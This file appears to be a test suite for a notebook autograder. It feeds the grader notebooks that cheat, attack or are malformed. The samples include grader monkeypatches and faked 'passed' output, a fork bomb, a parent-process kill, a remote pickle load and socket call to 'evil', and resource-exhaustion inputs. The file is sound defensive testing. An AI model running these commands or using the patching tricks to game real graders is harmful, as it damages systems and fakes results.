"""Notebooks that cheat, attack or are broken, by name. None of them holds a right answer.

Run as a program, it marks them all and prints as JSON what came of each, for other Pythons' sake.
"""

import json
import sys
import time

from attention_lab.exercises import EXERCISES
from attention_lab.grading.marking import Rules, mark
from attention_lab.grading.report import Student
from tests.grading.handed_in import IMPORTS, RIGHT, answers, function, notebook

WROTE = "open('hostile-was-here', 'w').write('x')"
SHAPES = {task.function: task.shape(3) for task in EXERCISES}
# A query that points away from k0, k1 and k3; a key that no query finds.
WRONG = {
    name: f"torch.full({shape}, -9.0)" if "query" in name else f"torch.zeros({shape})"
    for name, shape in SHAPES.items()
}
WRONG_CELL = "\n\n".join(function(name, answer) for name, answer in WRONG.items())
PASSING = function("get_query121", RIGHT["get_query121"])


def beside(*cells):
    """Wrong answers, then these cells."""
    return notebook(IMPORTS, WRONG_CELL, *cells)


def right(*cells):
    """Right answers, then these cells."""
    return notebook(IMPORTS, *map(function, RIGHT, RIGHT.values()), *cells)


def body(text):
    """Every answer is a function of these lines; none of them is right when it is executed."""
    lines = text.replace("\n", "\n    ")
    return notebook(IMPORTS, *(f"def {name}():\n    {lines}\n" for name in WRONG))


def returns(expression):
    """Every answer returns this."""
    return body(f"return {expression}")


def undone(line):
    """A right answer, and what makes another one of it."""
    return notebook(IMPORTS, PASSING, line)


PATCHES = {
    "check": "def check(*a): return True",
    "check_query": "check_query = lambda *a: 0.0",
    "the judge": "import attention_lab.judge\nattention_lab.judge.judge = lambda *a: True",
    "attention": "def attention(q, k, v): return v",
    "Tensor.abs": "torch.Tensor.abs = lambda self: torch.zeros(1)",
    "Tensor.max": "import torch as t\nt.Tensor.max = lambda self: 0",
    "the values": "value.fill_(0)\nkey.fill_(0)",
    "the tolerance": "import attention_lab.exercises as e\ne.TOLERANCE = 1e9",
    "the exercise": "from attention_lab.exercises import EXERCISES\nEXERCISES[0].tolerance = 1e9",
    "the fixture": "from attention_lab.fixtures import SEED\nSEED.key[:] = [[0.0] * 3] * 4",
    "float": "import builtins\nbuiltins.float = lambda x: 0.0",
    "eq": "class Liar:\n  def __eq__(self, o): return True\n  def __lt__(self, o): return True",
    "modules": "import sys\nsys.modules['attention_lab.judge'] = None",
    "zero": "def get_query132(x=[].append(1)): return 0",
    "the grader's own": "import attention_lab.grading.constants.limits as l\nl.NODES = 10 ** 9",
    "points": '{"points": 6, "status": "passed"}',
    "output": "print('6/6 passed')",
    "a hook": "import atexit\natexit.register(lambda: 1)",
    "trace": "import sys\nsys.settrace(lambda *a: None)",
}
ACTIONS = {
    "os.system": "__import__('os').system('touch hostile-was-here')",
    "open": WROTE,
    "subprocess": "import subprocess; subprocess.run(['touch', 'hostile-was-here'])",
    "shell": "!touch hostile-was-here",
    "magic": "%system touch hostile-was-here",
    "bash": "%%bash\ntouch hostile-was-here",
    "writefile": "%%writefile hostile-was-here\nx",
    "eval": f'eval("{WROTE}")',
    "exec": f'exec("{WROTE}")',
    "compile": f'exec(compile("{WROTE}", "", "exec"))',
    "pickle": "torch.load('http://evil')",
    "socket": "import socket; socket.create_connection(('evil', 80))",
    "exit": "import os; os._exit(0)",
    "signal": "import os, signal; os.kill(os.getppid(), signal.SIGKILL)",
    "fork": "import os\nwhile True: os.fork()",
    "memory": "x = 'x' * 10 ** 12",
    "a loop": "while True: pass",
    "recursion": "def f(): return f()\nf()",
    "a decorator": f"@(lambda f: {WROTE})\ndef g(): pass",
    "a default": f"def g(x={WROTE}): pass",
    "an annotation": f"def g(x: {WROTE}) -> {WROTE}: pass",
    "a metaclass": f"class M(type):\n  def __new__(*a): {WROTE}\nclass A(metaclass=M): pass",
    "a base": f"class A({WROTE}): pass",
    "a text": f"f'{{{WROTE}}}'",
    "a coding line": "# -*- coding: utf-7 -*-\n+AG8AcABlAG4-",
    "a cookie": "# vim: set fileencoding=rot13 :\nbcra('k')",
}
BODIES = {
    "os.system": "__import__('os').system('touch hostile-was-here')\nreturn torch.zeros(1, 3)",
    "write": f"{WROTE}\nreturn torch.ones(1, 3)",
    "write in an index": f"return torch.ones(1, 3)[{WROTE}]",
    "write in an annotation": f"x: {WROTE} = 1\nreturn torch.ones(1, 3)",
    "a loop": "while True: pass",
    "for": "for i in range(10 ** 9): pass\nreturn 1",
    "recursion": "return get_query121()",
    "each other": "return get_query122()",
    "search": "return min(candidates, key=check_query)",
    "optimise": "q = torch.zeros(1, 3, requires_grad=True)\nq.backward()\nreturn q",
    "random": "torch.manual_seed(1)\nreturn torch.randn(1, 3)",
    "the key": "return 10 * key[:1]",
    "the stack": "import inspect\nreturn inspect.stack()[1].frame.f_locals['target']",
    "course": "from attention_lab.answers import answer\nreturn answer(1, 2)",
    "a generator": f"x: (yield) = 1\nreturn {RIGHT['get_query121']}",
    "a late global": "return torch.ones(1, 3)\nglobal torch",
    "its own torch": "class torch: tensor = max\nreturn torch.tensor(1)",
    "evil as torch": "import evil as torch\nreturn torch.tensor([[1.0]])",
    "finally": "try:\n  return 1\nfinally:\n  return torch.zeros(1, 3)",
    "a subclass": "class T(torch.Tensor): __lt__ = max\nreturn T(1)",
}
EXPRESSIONS = {
    "9**9**9": "9 ** 9 ** 9",
    "9.0**9**9": "9.0 ** 9 ** 9",
    "a shift": "1 << 10 ** 10",
    "digits": "9" * 30_000,
    "hex digits": "0x" + "f" * 30_000,
    "digits of an exponent": "1e" + "9" * 30_000,
    "a long fraction": "0." + "1" * 30_000,
    "zeros": "torch.zeros(10 ** 6, 10 ** 6)",
    "zeros by 0": "torch.zeros(10 ** 12, 0)",
    "ones": "torch.ones(" + "2," * 60 + ")",
    "full": "torch.full((99999, 99999), 0.5)",
    "cat": "torch.cat([" + "torch.ones(256)," * 100 + "])",
    "stack": "torch.stack([" + "torch.ones(16, 16)," * 16 + "])",
    "outer sum": "torch.ones(256, 1) + torch.ones(256)",
    "outer product": "torch.ones(256, 1) @ torch.ones(1, 256)",
    "products": "@".join(["torch.ones(16, 16)"] * 200),
    "sums": "+".join(["1"] * 10_000),
    "signs": "-" * 10_000 + "1",
    "brackets": "[" * 150 + "]" * 150,
    "too many brackets": "[" * 5_000 + "]" * 5_000,
    "open brackets": "(" * 30_000,
    "a wide list": "[" + "1," * 15_000 + "]",
    "indices": "[1]" + "[0]" * 5_000,
    "calls": "torch" + "()" * 5_000,
    "attributes": "torch" + ".a" * 10_000,
    "lambdas": "lambda:" * 5_000 + "1",
    "defaults": "lambda x=" * 800 + "0" + ":0" * 800,
    "comparisons": "1" + "<1" * 10_000,
    "a comprehension": "[x for x in range(10 ** 9)]",
    "a text": "'x' * 10 ** 9",
    "a list times": "[0] * 10 ** 9",
    "f-texts": "f'{1:{10 ** 9}}'",
    "nested f-texts": "f'" + "{" * 5_000,
    "a tensor of itself": "torch.tensor([torch.ones(256)] * 256)",
    "dunder": "().__class__.__bases__[0].__subclasses__()",
    "type": "type('T', (), {'__lt__': lambda *a: True})()",
    "an ellipsis": "...",
    "ellipses": "torch.tensor([[..., ..., ...]])",
    "a dtype": "torch.float32",
    "true": "True",
    "infinite": "torch.full((1, 3), inf)",
    "nan": "torch.full((1, 3), nan)",
    "empty": "torch.zeros(1, 0)",
    "no shape": "0.56",
    "more rows": "torch.full((4, 3), 0.0)[:, None]",
    "a terminal's codes": "'\x1b[2J\x1b[31m'",
    "a formula": "'=cmd|calc!A0'",
}
UNDOINGS = {
    "another code": "get_query121.__code__ = (lambda: 0).__code__",
    "del": "del get_query121",
    "a later one": "def get_query121():\n    return torch.zeros(1, 3)",
    "a conditional one": "if True:\n    def get_query121():\n        return 0",
    "a decorator": "@wrong\n" + PASSING,
    "a type parameter": PASSING.replace("()", "[torch]()"),
    "globals": "globals()['get_query121'] = lambda: 0",
    "torch": "import wrong as torch",
    "torch.tensor": "torch.tensor = lambda x: 0",
    "in a class": "class A:\n    torch.tensor = lambda x: 0",
    "in a function": "def f():\n    global get_query121\n    get_query121 = 0\nf()",
    "a star": "from wrong import *",
    "one too long": "#" * 20_000 + "\nget_query121 = 0",
    "one that is broken": PASSING + "\nreturn (",
}
SOURCES = {  # which the programs that read them take too long for, or fall over
    "blank lines": "\n" * 39_000 + "torch",
    "blanks": " " * 39_000 + "torch",
    "blanks and tabs": "\n\t " * 13_000 + "torch",
    "quotes": "'\n" * 19_000 + "torch",
    "double quotes": '"""' * 13_000 + "torch",
    "one quote": "torch '" + "x" * 39_000,
    "backslashes": "torch " + "\\" * 39_000,
    "continued lines": "\\\n" * 19_000 + "torch",
    "magics": "%torch\n" * 5_000,
    "shells": "torch\n" + "!x\n" * 12_000,
    "question marks": "torch" + "?" * 39_000,
    "words": "torch" + "a" * 39_000 + "?",
    "almost assigned magics": "torch " + "a, " * 12_000 + "= x",
    "defs": "def get_query121" * 2_000,
    "def and blanks": "(" + ("def" + " " * 1_000) * 38,
    "indentation": "".join(f"{' ' * i}if torch:\n" for i in range(200)),
    "imports": "import torch" + ".a" * 19_000,
    "accents": "torch\nx" + "\u0315\u0300" * 19_000 + " = 1",
    "accents in a comment": "# torch " + "\u0315\u0300" * 400_000,
    "accents within letters": "x" + "\u0f73" * 38_000 + " = torch",
    "ligatures": "# torch " + "\ufdfa" * 400_000,
    "half characters": "torch = '\ud800\udfff\udc00'",
    "null": "torch\0",
    "control characters": "# torch " + "".join(map(chr, range(1, 32))),
    "turned": "torch # \u202e\u2066",
    "try": "".join(f"{' ' * i}try: torch\n{' ' * i}finally:\n" for i in range(60)) + " " * 61 + "x",
    "decorators": "@torch\n" * 5_000 + "def get_query121(): pass",
    "norms": "m[1] = get_key142() # norm\n" * 1_400,
    "deep places": f"m[{'-' * 900}1] = 1 # norm torch",
    "long numbers": f"nan = float(0x{'f' * 9_000})",
    "dots": "nan = torch" + ".a" * 1_500,
    "a walrus in a default": "def torch(x=(torch := 1)): pass",
}
MANY = {
    "cells of code": [f"torch = [{'1,' * 15_000}] # {n}" for n in range(100)],
    "cells of names": ["nan = inf\n" * 3_900 + f"# {n}" for n in range(100)],
    "cells of imports": [f"import torch{'.a' * 19_000} as F # {n}" for n in range(50)],
    "small cells": [f"torch, {n}" for n in range(1_900)],
    "definitions": [f"{PASSING}\n# {n}" for n in range(1_900)] + [WRONG_CELL],
}
WORK = {
    "products": "a = torch.ones(16, 16)\n" + "a = a @ a\n" * 300 + "return a",
    "lengths": "a = torch.ones(16, 16)\n" + "a = F.normalize(a)\n" * 200 + "return a",
    "lists": "a = [1]\n" + "a = [a, a]\n" * 60 + "return a",
    "shared lists": f"a = [{'1,' * 200}]\nb = [{'a,' * 200}]\nc = [{'b,' * 200}]\nreturn c",
    "squares": "a = 3\n" + "a = a * a\n" * 100 + "return a",
    "growing": "a = torch.ones(2)\n" + "a = torch.cat([a, a])\n" * 60 + "return a",
    "axes": "a = torch.ones(1)\n" + "a = a[None]\n" * 60 + "return a",
    "steps": "a = 1\n" * 3_000 + "return a",
    "whole numbers": "a = torch.tensor([3])\n" + "a *= a\n" * 60 + "return a",
    "itself": "a = torch.ones(256)\na[1:] = a[:-1]\nreturn a",
}
SETS_UP = "work_on(mine)\n"
CLAIMS = {  # of whose keys and values it was worked on
    "a long course": notebook(WRONG_CELL, variants=True, course="x" * 1_000_000),
    "digits": notebook(WRONG_CELL, variant=10**4_000),
    "a negative one": notebook(WRONG_CELL, variant=-1),
    "names": beside(SETS_UP + "".join(f"student = '{n}'\n" for n in range(100_000))),
    "one name": beside(SETS_UP + "student = '" + "x" * 1_000_000 + "'"),
    "names without an end": beside(SETS_UP + ("variant_for('" + "x" * 200) * 9_000),
    "blanks": beside(SETS_UP + ("variant_for(" + " " * 3_000) * 600),
}


def damaged(cell, **metadata):
    """A notebook whose JSON holds something else in place of its cells' texts."""
    return json.dumps({"cells": [cell], "metadata": metadata, "nbformat": 4}).encode()


WHOLE = beside()
FILES = {
    "nothing": b"",
    "cut": WHOLE[: len(WHOLE) // 2],
    "nulls": b"\0" * 10_000,
    "nulls inside": WHOLE.replace(b"torch", b"tor\0ch"),
    "other bytes": bytes(range(256)) * 40,
    "half utf-8": WHOLE.replace(b"-9.0", b"\xff\xfe\xc3"),
    "deep lists": b'{"cells": ' + b"[" * 500_000,
    "deep metadata": b'{"cells": [], "metadata": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_001,
    "digits": b'{"cells": [], "nbformat": ' + b"9" * 1_000_000 + b"}",
    "not a number": b'{"cells": [NaN, Infinity]}',
    "twice the cells": WHOLE[:-1] + b', "cells": []}',
    "format 99": WHOLE.replace(b'"nbformat": 4', b'"nbformat": 99'),
    "format text": WHOLE.replace(b'"nbformat": 4', b'"nbformat": "x"'),
    "a source of numbers": damaged({"cell_type": "code", "source": [1, 2]}),
    "a source of lists": damaged({"cell_type": "code", "source": [["x"]]}),
    "no source": damaged({"cell_type": "code"}),
    "a type of lists": damaged({"cell_type": ["code"], "source": "x"}),
    "a variant of digits": damaged(
        {"cell_type": "code", "source": ""}, attention_lab={"variant": 9}
    ),
    "a variant of texts": damaged({"source": ""}, attention_lab={"variant": "=1+1"}),
    "half characters": WHOLE.replace(b"-9.0", rb"\ud800"),
    "a list": b"[1, 2, 3]",
    "a page": b"<!DOCTYPE html><script>alert(1)</script>",
    "python": PASSING.encode(),
    "a cell too long": notebook(IMPORTS, PASSING + "\n" + "#" * 20_000),
}
GROUPS = {
    "patch": {name: beside(text) for name, text in PATCHES.items()},
    "do": {name: beside(text) for name, text in ACTIONS.items()},
    "answer": {name: body(text) for name, text in BODIES.items()},
    "return": {name: returns(text) for name, text in EXPRESSIONS.items()},
    "undo": {name: undone(text) for name, text in UNDOINGS.items()},
    "source": {name: beside(text) for name, text in SOURCES.items()},
    "many": {name: notebook(*cells) for name, cells in MANY.items()},
    "work": {name: body(text) for name, text in WORK.items()},
    "claim": CLAIMS,
    "file": FILES,
}
HOSTILE = {
    f"{group}: {name}": file for group, files in GROUPS.items() for name, file in files.items()
}
# What is only unusual, with all that it is worth.
UNUSUAL = {
    "a BOM": b"\xef\xbb\xbf" + answers(),
    "UTF-16": answers().decode().encode("utf-16"),
    "UTF-16, the other end first": answers().decode().encode("utf-16-be"),
    "UTF-32": answers().decode().encode("utf-32"),
    "other lines": answers(get_query131="torch.zeros(1, 3)\r\n\r\n# \u2028 \x0c \x85"),
    "actions that nobody takes": right(
        *(line for line in ACTIONS.values() if "exec" not in line and "eval" not in line)
    ),
    "old notes": right("# \u202e \x1b[31m =1+1"),
    "outputs": answers().replace(
        b'"outputs": []', b'"outputs": [{"data": {"text/html": "<script>"}}]'
    ),
    "format 4.99": answers().replace(b'"nbformat_minor": 4', b'"nbformat_minor": 99'),
}


def outcome(name, file, course=""):
    """What comes of a file: seconds, how it was marked, and all that is said of it."""
    began = time.process_time()
    report = mark(name, Student("Ada"), file, Rules(course))
    seconds = time.process_time() - began
    statuses = {number: found.status for number, found in report.marks.items()}
    said = [report.error, *report.reasons, *(found.message for found in report.marks.values())]
    return {"seconds": seconds, "statuses": statuses, "said": said}


if __name__ == "__main__":
    json.dump({name: outcome(name, file) for name, file in HOSTILE.items()}, sys.stdout)
